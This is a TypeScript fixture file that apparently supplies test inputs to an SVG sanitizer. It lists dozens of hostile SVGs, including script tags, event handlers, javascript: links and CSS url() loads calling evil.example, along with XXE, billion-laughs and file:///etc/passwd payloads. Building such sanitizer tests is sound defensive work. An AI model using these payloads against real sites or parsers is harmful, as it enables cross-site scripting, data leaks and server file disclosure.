/** Well-formed files that execute, animate or load. */
export const HOSTILE_SVGS: readonly (readonly [name: string, svg: string])[] = [
  [
    "script element",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><script>alert(1)</script><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "script with CDATA",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><script><![CDATA[alert(1)]]></script><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "script with href",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><script href="https://evil.example/x.js"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "script with xlink:href",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><script xlink:href="data:text/javascript,alert(1)"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "prefixed script",
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script><s:g/></s:svg>',
  ],
  [
    "script in another namespace",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><h:script xmlns:h="http://www.w3.org/1999/xhtml">1</h:script><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "nested script in g in defs",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><defs><g><script>1</script></g></defs><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "onload on the root",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "onclick on a path",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path onclick="alert(1)" d="M0 0h1"/></svg>',
  ],
  [
    "onmouseover in odd case",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path onMouseOver="alert(1)" d="M0 0h1"/></svg>',
  ],
  [
    "onbegin on animate",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><animate onbegin="alert(1)" attributeName="x"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "ev:event handler",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">1</handler><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "namespaced onload",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path x:onload="alert(1)" xmlns:x="urn:x" d="M0 0h1"/></svg>',
  ],
  [
    "foreignObject with html",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>1</script></body></foreignObject><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "foreignObject with iframe",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "iframe",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "object and embed",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><object data="https://evil.example"/><embed src="https://evil.example"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "html form in svg",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input/></form><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "audio and video",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><audio src="https://evil.example/a"/><video src="https://evil.example/v"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "animate href to javascript",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a id="a"><path d="M0 0h1"/><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  ],
  [
    "set href to javascript",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a id="a"><set attributeName="xlink:href" to="javascript:alert(1)"/></a><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "animate with fragment target",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a id="a"/><animate href="#a" attributeName="href" to="javascript:1"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "animateTransform and animateMotion",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><g><animateTransform attributeName="transform" type="rotate" dur="1s"/><animateMotion path="M0 0"><mpath href="#p"/></animateMotion></g><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "a with javascript",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href="javascript:alert(1)"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a with javascript and white space",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href=" java&#10;script:alert(1)"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a with xlink javascript",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><a xlink:href="javascript:alert(1)"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a with vbscript",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href="vbscript:1"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a to another site",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href="https://evil.example" target="_blank" ping="https://evil.example"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a protocol-relative",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href="//evil.example/x"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "a with data html",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><a href="data:text/html,&lt;script&gt;1&lt;/script&gt;"><path d="M2 2h20v20H2z"/></a></svg>',
  ],
  [
    "use of another file",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="https://evil.example/x.svg#a"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "use of data svg",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "use relative file",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><use xlink:href="other.svg#a"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "image of another site",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><image href="https://evil.example/t.png" width="9" height="9"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "image from file",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><image href="file:///etc/passwd" width="9" height="9"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "image of data svg",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><image href="data:image/svg+xml,&lt;svg onload=1&gt;" width="9" height="9"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "image of data html",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><image href="data:text/html;base64,PGI+" width="9" height="9"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "image that says png and is html",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><image href="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="9" height="9"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "feImage of another site",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><filter id="f"><feImage href="https://evil.example/x.png"/></filter><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "xml:base",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><g xml:base="https://evil.example/"><use href="#a"/></g><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "fill with url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" fill="url(https://evil.example/x#p)"/></svg>',
  ],
  [
    "fill with url and fallback",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" fill="url(https://evil.example/x#p) red"/></svg>',
  ],
  [
    "filter with url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" filter="url(\'https://evil.example/x#f\')"/></svg>',
  ],
  [
    "mask with escaped url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" mask="u\\72l(https://evil.example)"/></svg>',
  ],
  [
    "style attribute with url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="fill:url(https://evil.example)"/></svg>',
  ],
  [
    "style attribute with background",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="background:url(https://evil.example);fill:red"/></svg>',
  ],
  [
    "style attribute with image-set",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="mask:image-set(\'https://evil.example\' 1x)"/></svg>',
  ],
  [
    "style attribute with escapes",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="fill:\\75 rl(https://evil.example)"/></svg>',
  ],
  [
    "style attribute with expression",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="width:expression(alert(1))"/></svg>',
  ],
  [
    "style attribute with binding",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="-moz-binding:url(https://evil.example)"/></svg>',
  ],
  [
    "style attribute with comment inside url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9v9z" style="fill:u/**/rl(https://evil.example)"/></svg>',
  ],
  [
    "style element with import",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@import url(https://evil.example/x.css); path{fill:red}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with import as text",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@import "https://evil.example/x.css";path{fill:red}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with font-face",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}path{fill:red}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>path{fill:url(https://evil.example)}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with escapes",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@\\69mport "https://evil.example";path{fill:red}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with keyframes",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@keyframes k{from{fill:red}}path{animation:k 1s}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with media and url",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@media screen{path{fill:url(//evil.example)}}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element that breaks out",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>&lt;/style>&lt;script>alert(1)&lt;/script></style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element in CDATA",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style><![CDATA[</style><script>alert(1)</script>@import "//evil.example";]]></style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element of another type",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style type="text/javascript">alert(1)</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with attribute selector leak",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>input[value^="a"]{background:url(https://evil.example/a)}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style element with namespace rule",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>@namespace url(http://evil.example/);path{fill:red}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style with unclosed comment",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>path{fill:red}/* @import "https://evil.example"</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "style with string trick",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>path{fill:"}@import \'https://evil.example\';{"}</style><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "xml-stylesheet instruction",
    '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "bare DOCTYPE",
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "comment with markup",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><!-- <script>alert(1)</script> --><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "title with markup",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title><script xmlns="http://www.w3.org/1999/xhtml">1</script>t</title><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "desc with html that mutates",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><desc><style xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></style></desc><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "metadata with rdf",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><a rdf:resource="https://evil.example"/></rdf:RDF></metadata><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "cursor with href",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><cursor id="c" xlink:href="https://evil.example/c.cur"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "font-face-uri",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><font-face><font-face-src><font-face-uri xlink:href="https://evil.example/f"/></font-face-src></font-face><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "entity written as references",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><text>&#60;script&#62;alert(1)&#60;/script&#62;</text><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "namespace reset inside",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><g xmlns=""><script>1</script></g><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "switch with foreignObject",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><switch><foreignObject requiredExtensions="urn:x"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject><path d="M2 2h20v20H2z"/></switch></svg>',
  ],
  [
    "html namespace handler in text",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><text><b xmlns="http://www.w3.org/1999/xhtml" onclick="1">x</b>y</text><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "prototype names",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path __proto__="x" constructor="y" d="M0 0h1"/></svg>',
  ],
  [
    "link element",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "meta refresh",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/><path d="M2 2h20v20H2z"/></svg>',
  ],
  [
    "math with href",
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi>x</mi></math><path d="M2 2h20v20H2z"/></svg>',
  ],
];

/** Files that must be rejected completely. */
export const MALFORMED_SVGS: readonly (readonly [name: string, svg: string])[] = [
  ["nothing", ""],
  ["text", "hello"],
  ["html", "<html><body/></html>"],
  ["another root in the namespace", '<g xmlns="http://www.w3.org/2000/svg"/>'],
  ["svg of another namespace", '<svg xmlns="urn:x"/>'],
  ["unclosed element", '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'],
  ["unquoted attribute", '<svg xmlns="http://www.w3.org/2000/svg"><g id=a/></svg>'],
  ["duplicate attribute", '<svg xmlns="http://www.w3.org/2000/svg"><g id="a" id="b"/></svg>'],
  ["undefined entity", '<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>'],
  ["unbound prefix", '<svg xmlns="http://www.w3.org/2000/svg"><x:g/></svg>'],
  [
    "internal subset",
    '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
  ],
  [
    "billion laughs",
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
  ],
  [
    "external entity",
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  ],
  [
    "parameter entity",
    '<!DOCTYPE svg SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example">%p;]><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
  ["bare ampersand", '<svg xmlns="http://www.w3.org/2000/svg"><text>a & b</text></svg>'],
  [
    "two roots",
    '<svg xmlns="http://www.w3.org/2000/svg"/><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
  ["control character", '<svg xmlns="http://www.w3.org/2000/svg"><text>\u0001</text></svg>'],
  ["truncated", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0'],
  ["gzip bytes", "\u001f\b"],
];
